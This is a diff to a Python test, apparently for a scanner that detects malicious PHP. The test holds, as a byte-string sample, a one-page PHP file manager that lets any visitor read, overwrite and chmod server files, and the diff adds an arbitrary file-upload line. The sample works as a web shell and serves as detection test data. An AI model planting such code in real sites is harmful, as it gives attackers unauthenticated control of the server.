@@ -986,6 +986,7 @@ def test_one_page_file_manager_for_the_whole_server(eng):
            b"if (isset($_POST['perm'])) { chmod($_POST['f'], octdec($_POST['perm'])); }\n"
            b"if (isset($_POST['nd'])) { mkdir($d . '/' . $_POST['nd']); }\nif (isset($_GET['show'])) { highlight_file($_GET['show']); }\n"
            b"if (isset($_POST['save'])) { $h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['body']); }\n"
+           b"if (!empty($_FILES['u'])) { move_uploaded_file($_FILES['u']['tmp_name'], $d . '/x'); }\n"
            b"foreach (scandir($d) as $e) { echo htmlspecialchars($e), '<br>'; }\n?>\n"
            b"<form method=post><input name=f><textarea name=body></textarea><input name=save type=submit></form>\n")
     v = eng.analyse(src, '/var/www/html/fm.php')
